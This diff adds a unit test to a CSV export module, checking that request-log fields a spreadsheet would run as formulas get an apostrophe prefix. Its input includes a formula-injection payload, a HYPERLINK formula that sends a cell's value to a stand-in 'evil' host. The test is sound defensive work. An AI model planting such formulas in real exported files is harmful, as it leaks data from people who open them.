@@ -16,6 +16,18 @@ describe("request-log CSV", () => {
     expect(csv).toBe(readFileSync(testdata("requestlogs.csv"), "utf8"));
   });
 
+  it("prefixes text a spreadsheet would run with ', and leaves numbers alone", () => {
+    const hostile = '=HYPERLINK("http://evil/?"&A1,"x")';
+    const row = {
+      _id: "r", _creationTime: 1, requestId: "r1", timestamp: 0, status: "error", statusCode: 502, requestType: "chat_completion",
+      method: "POST", endpoint: "/api/v1/chat/completions", requestSize: -1, responseSize: 2, processingTime: 3,
+      conversationId: hostile, messageId: "+m", model: "-evil/model", errorType: "@err", errorMessage: "\t=1", userAgent: "\r=2",
+    } as unknown as RequestLog;
+    expect(csvLine(requestLogRecord(row))).toBe(
+      `1970-01-01T00:00:00.000Z,r1,error,502,,,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'+m,'-evil/model,,,,,,,,,3,,-1,2,'@err,'\t=1,POST,/api/v1/chat/completions,"'\r=2",\n`,
+    );
+  });
+
   it("formats nano-USD exactly", () => {
     expect(nanosToUsdText(0)).toBe("0.000000000");
     expect(nanosToUsdText(7)).toBe("0.000000007");
